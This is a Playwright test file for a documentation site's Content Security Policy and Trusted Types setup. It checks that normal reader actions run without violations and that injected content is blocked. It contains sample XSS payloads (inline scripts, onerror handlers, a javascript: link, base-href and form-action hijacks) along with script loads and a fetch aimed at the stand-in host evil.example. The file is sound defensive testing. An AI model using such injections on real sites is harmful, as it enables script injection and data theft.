@@ -1,0 +1,320 @@
+import type { Page } from '@playwright/test';
+import { withPolicy } from '@/lib/export/security-policy';
+import { site } from '@/lib/site';
+import { expect, isSameDocument, markDocument, originOf, settled, test } from './fixtures';
+import { mockThirdParties, recordPolicyViolations } from './support/policy-violations';
+import { searchDialog } from './support/search-dialog';
+
+const evil = 'https://evil.example';
+
+const sidebar = (page: Page) => page.getByRole('navigation', { name: 'Docs sidebar' });
+const heading = (page: Page) => page.getByRole('heading', { level: 1 });
+
+test.describe('nothing is blocked while a reader', () => {
+  test('changes the theme, the consent, the sidebar and the page, and searches', async ({
+    page,
+    open,
+  }) => {
+    const violations = await recordPolicyViolations(page);
+    await open('/crm/lists');
+
+    await test.step('theme', async () => {
+      await page.getByRole('button', { name: /currently light mode/ }).click();
+      await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
+      await page.getByRole('button', { name: /currently dark mode/ }).click();
+      await expect(page.locator('html')).toHaveAttribute('data-theme', 'light');
+    });
+    await test.step('consent', async () => {
+      await page.getByRole('button', { name: site.consent.settings }).click();
+      const banner = page.getByRole('dialog', { name: site.consent.title });
+      await banner.getByRole('button', { name: site.consent.acceptAll }).click();
+      await expect(banner).toHaveCount(0);
+    });
+    await test.step('sidebar and announcement', async () => {
+      await sidebar(page).getByRole('button', { name: "Expand sidebar category 'AI'" }).click();
+      await expect(sidebar(page).getByRole('link', { name: 'Knowledge base' })).toBeVisible();
+      const notice = page.getByRole('region', { name: 'Announcement' });
+      await notice.getByRole('button', { name: 'Close' }).click();
+      await expect(notice).toHaveCount(0);
+    });
+    await test.step('ten pages in a row', async () => {
+      await markDocument(page);
+      const pagination = page.getByRole('navigation', { name: 'Docs pages' });
+      for (let count = 0; count < 10; count++) {
+        const url = page.url();
+        await pagination.getByRole('link', { name: /^Next/ }).click();
+        await expect(page).not.toHaveURL(url);
+        await expect(heading(page)).toBeVisible();
+      }
+      expect(await isSameDocument(page)).toBe(true);
+    });
+    await test.step('search, from a query to a page', async () => {
+      const { dialog, field, options, ...search } = searchDialog(page);
+      const url = page.url();
+      await search.open();
+      await field.fill('contact');
+      await options.first().click();
+      await expect(dialog).toHaveCount(0);
+      await expect(page).not.toHaveURL(url);
+    });
+    await test.step('results page', async () => {
+      const { dialog, field, ...search } = searchDialog(page);
+      await search.open();
+      await field.fill('contact');
+      await dialog.getByRole('link', { name: /^See all/ }).click();
+      await expect(page.getByText(/^\d+ documents found$/)).toBeVisible();
+      await page.getByRole('main').getByRole('searchbox').fill('campaign');
+      await expect(page).toHaveURL(/q=campaign/);
+      await page.getByRole('main').getByRole('link').first().click();
+      await expect(page).not.toHaveURL(/\/search/);
+    });
+    await settled(page);
+    expect(violations).toEqual([]);
+  });
+
+  test('uses the menu of a phone', async ({ page, open }) => {
+    await page.setViewportSize({ width: 390, height: 800 });
+    const violations = await recordPolicyViolations(page);
+    await open('/crm/lists');
+    await page.getByRole('button', { name: 'Toggle navigation bar' }).click();
+    const menu = page.getByRole('dialog', { name: 'Navigation' });
+    await menu.getByRole('button', { name: '← Back to main menu' }).click();
+    await menu.getByRole('button', { name: 'Docs menu →' }).click();
+    await menu.getByRole('link', { name: 'Tasks' }).click();
+    await expect(heading(page)).toHaveText('Tasks');
+    await settled(page);
+    expect(violations).toEqual([]);
+  });
+
+  test('uses tabs and code blocks, and while the site starts a worker', async ({
+    page,
+    context,
+    open,
+  }) => {
+    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+    const violations = await recordPolicyViolations(page);
+    await open(`${originOf('syntax')}/basics/components`);
+    await page.getByRole('tab', { name: 'macOS' }).first().click();
+    await expect(page.getByText('Use Command.')).toBeVisible();
+    await sidebar(page).getByRole('link', { name: 'Plain Markdown' }).click();
+    const block = page.getByRole('figure', { name: 'hello.js' });
+    await block.getByRole('button', { name: 'Toggle word wrap' }).click();
+    await block.getByRole('button', { name: 'Copy code to clipboard' }).click();
+    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('const');
+    await test.step('worker', async () => {
+      await page.route('**/_next/static/worker.js', (route) =>
+        route.fulfill({ contentType: 'text/javascript', body: 'postMessage("started")' }),
+      );
+      expect(await page.evaluate(messageOfWorker)).toBe('started');
+    });
+    await settled(page);
+    expect(violations).toEqual([]);
+  });
+});
+
+/** The first message of a new worker whose script is on this site. */
+function messageOfWorker(): Promise<unknown> {
+  return new Promise((resolve) => {
+    const worker = new Worker('/_next/static/worker.js');
+    worker.addEventListener('message', ({ data }) => resolve(data));
+  });
+}
+
+/** Edits the HTML of a page on its way to the browser. */
+async function editHtml(page: Page, edit: (html: string) => string): Promise<void> {
+  await page.route('**/crm/lists', async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, body: edit(await response.text()) });
+  });
+}
+
+const hasRun = (page: Page) =>
+  page.evaluate(() => 'injected' in window || 'thirdPartyRan' in window);
+
+/** What is injected into the HTML of a page, by the directive that blocks it. */
+const injectedHtml: [html: string, violation: string][] = [
+  ['<script>window.injected = 1</script>', 'script-src-elem: inline'],
+  ['<img src="/x.png" alt="" onerror="window.injected = 1">', 'script-src-attr: inline'],
+  [`<script src="${evil}/a.js"></script>`, `script-src-elem: ${evil}/a.js`],
+  ['<script src="data:text/javascript,injected=1"></script>', 'script-src-elem: data'],
+  ['<p style="color: red">injected</p>', 'style-src-attr: inline'],
+  ['<style>p { color: red }</style>', 'style-src-elem: inline'],
+  [`<img src="${evil}/a.png" alt="">`, `img-src: ${evil}/a.png`],
+  [`<iframe src="${evil}/" title="injected"></iframe>`, `frame-src: ${evil}`],
+  [`<object data="${evil}/a.swf"></object>`, `object-src: ${evil}`],
+  [`<base href="${evil}/">`, `base-uri: ${evil}`],
+];
+
+test('whatever is injected into the HTML is blocked', async ({ page, open }) => {
+  const violations = await recordPolicyViolations(page);
+  const requests = await mockThirdParties(page, { 'evil.example': 'window.thirdPartyRan = 1' });
+  const link = '<a href="javascript:window.injected = 1">injected link</a>';
+  const form = `<form action="${evil}/form"><button>injected button</button></form>`;
+  const html = [...injectedHtml.map(([html]) => html), link, form].join('');
+  await editHtml(page, (text) => text.replace('</body>', `${html}</body>`));
+  await open('/crm/lists');
+  for (const [html, violation] of injectedHtml)
+    await expect.poll(() => violations, html).toContainEqual(expect.stringContaining(violation));
+
+  await test.step('a javascript: link', async () => {
+    const before = violations.length;
+    await page.getByRole('link', { name: 'injected link' }).click();
+    await expect
+      .poll(() => violations.slice(before))
+      .toContainEqual(expect.stringMatching(/^script-src/));
+  });
+  await test.step('a form that leads to another site', async () => {
+    await page.getByRole('button', { name: 'injected button' }).click({ noWaitAfter: true });
+    await expect
+      .poll(() => violations)
+      .toContainEqual(expect.stringContaining(`form-action: ${evil}`));
+  });
+  await settled(page);
+  expect(await hasRun(page)).toBe(false);
+  expect(requests).toEqual([]);
+});
+
+/** What a script of the page may not do, by the violation that it causes. */
+const blockedActions: [name: string, act: () => unknown, violation: string][] = [
+  [
+    'HTML from text',
+    () => document.body.insertAdjacentHTML('beforeend', '<img src="/x.png" alt="">'),
+    'require-trusted-types-for: trusted-types-sink Element insertAdjacentHTML',
+  ],
+  [
+    'a script of another site',
+    () => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/a.js';
+      document.head.append(script);
+    },
+    'require-trusted-types-for: trusted-types-sink HTMLScriptElement src',
+  ],
+  [
+    'an inline script',
+    () => {
+      const script = document.createElement('script');
+      script.append('window.injected = 1');
+      document.head.append(script);
+    },
+    'require-trusted-types-for: trusted-types-sink HTMLScriptElement text',
+  ],
+  [
+    'text as code',
+    () => Reflect.apply(setTimeout, window, ['injected = 1']),
+    'require-trusted-types-for: trusted-types-sink Window setTimeout',
+  ],
+  [
+    'another Trusted Types policy',
+    () => {
+      const all = (text: string) => text;
+      const rules = { createScriptURL: all, createScript: all, createHTML: all };
+      window.trustedTypes?.createPolicy('mine', rules);
+    },
+    'trusted-types: trusted-types-policy mine',
+  ],
+  [
+    'a worker from text',
+    () => void new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
+    'require-trusted-types-for: trusted-types-sink Worker constructor',
+  ],
+  [
+    'a request to another site',
+    () => void fetch('https://evil.example/fetched').catch(() => {}),
+    'connect-src: https://evil.example/fetched',
+  ],
+];
+
+test('scripts of the page are limited to what the site needs', async ({ page, open }) => {
+  const violations = await recordPolicyViolations(page);
+  const requests = await mockThirdParties(page, { 'evil.example': 'window.thirdPartyRan = 1' });
+  await open('/crm/lists');
+  for (const [name, act, violation] of blockedActions)
+    await test.step(name, async () => {
+      // Some of them throw.
+      await page.evaluate(act).catch(() => {});
+      await expect.poll(() => violations).toContainEqual(expect.stringContaining(violation));
+    });
+  await settled(page);
+  expect(await hasRun(page)).toBe(false);
+  expect(requests).toEqual([]);
+});
+
+test('React can render a page again whose HTML does not match', async ({ page, open }) => {
+  const violations = await recordPolicyViolations(page);
+  await editHtml(page, (html) => html.replace(/(<h1[^>]*>)Lists/, '$1Listes'));
+  await open('/crm/lists');
+  await expect(heading(page)).toHaveText('Lists');
+  // React reports the mismatch, and nothing else is reported.
+  expect(violations.join()).toContain('#418');
+  expect(violations.filter((violation) => !violation.includes('#418'))).toEqual([]);
+  await sidebar(page).getByRole('link', { name: 'Tasks' }).click();
+  await expect(heading(page)).toHaveText('Tasks');
+});
+
+test('the inline script of a redirect page runs', async ({ page, open }) => {
+  const violations = await recordPolicyViolations(page);
+  const html =
+    '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Moved</title><script>location.replace("/crm/lists"+location.search+location.hash)</script></head><body></body></html>';
+  await page.route('**/moved.html*', (route) =>
+    route.fulfill({ contentType: 'text/html', body: withPolicy(html, []) }),
+  );
+  await open('/moved.html?a=1#limits');
+  await expect(page).toHaveURL('/crm/lists?a=1#limits');
+  expect(violations).toEqual([]);
+});
+
+/** Scripts that do in small what those of third parties do by their documentation. */
+const thirdPartyScripts = {
+  'www.googletagmanager.com':
+    'navigator.sendBeacon("https://region1.google-analytics.com/g/collect");new Image().src="https://www.google-analytics.com/a.gif";window.thirdPartyRan=1',
+  'consent.cookiebot.com': `document.addEventListener("DOMContentLoaded",()=>{
+    document.body.insertAdjacentHTML("beforeend","<div id=CybotCookiebotDialog><style>#CybotCookiebotDialog{color:rgb(1,2,3)}</style>Cookies?</div>");
+    const frame=document.createElement("iframe");frame.src="https://consentcdn.cookiebot.com/sdk/bc-v4.min.html";document.body.append(frame);
+    const more=document.createElement("script");more.src="https://consentcdn.cookiebot.com/consentconfig/a.js";document.head.append(more)})`,
+  'consentcdn.cookiebot.com': 'window.thirdPartyRan=1',
+};
+
+/** Adds a script of a company that the site does not use, and waits until it is blocked. */
+async function expectForeignScriptBlocked(page: Page, violations: string[]): Promise<void> {
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.src = 'https://evil.example/a.js';
+    document.head.append(script);
+  });
+  await expect.poll(() => violations.join()).toContain(`script-src-elem: ${evil}/a.js`);
+}
+
+test.describe('with a tag manager', () => {
+  test.use({ site: 'syntax', consent: { statistics: true } });
+
+  test('it counts a visit, and no other third party may run', async ({ page, open }) => {
+    const violations = await recordPolicyViolations(page);
+    await mockThirdParties(page, thirdPartyScripts);
+    await open('/welcome');
+    await expect.poll(() => hasRun(page)).toBe(true);
+    const footer = page.getByRole('contentinfo');
+    await footer.getByRole('link', { name: site.footer.cookies }).click();
+    await expect(heading(page)).toHaveText('Cookie Declaration');
+    await settled(page);
+    expect(violations).toEqual([]);
+    await expectForeignScriptBlocked(page, violations);
+  });
+});
+
+test.describe('with a consent platform', () => {
+  test.use({ site: 'syntax-next' });
+
+  test('it shows its banner, and no other third party may run', async ({ page, open }) => {
+    const violations = await recordPolicyViolations(page);
+    await mockThirdParties(page, thirdPartyScripts);
+    await open('/welcome');
+    await expect(page.getByText('Cookies?')).toHaveCSS('color', 'rgb(1, 2, 3)');
+    await expect.poll(() => hasRun(page)).toBe(true);
+    await sidebar(page).getByRole('link', { name: 'The basics' }).click();
+    await expect(page).toHaveURL(/\/category\/the-basics$/);
+    await settled(page);
+    expect(violations).toEqual([]);
+    await expectForeignScriptBlocked(page, violations);
+  });
+});
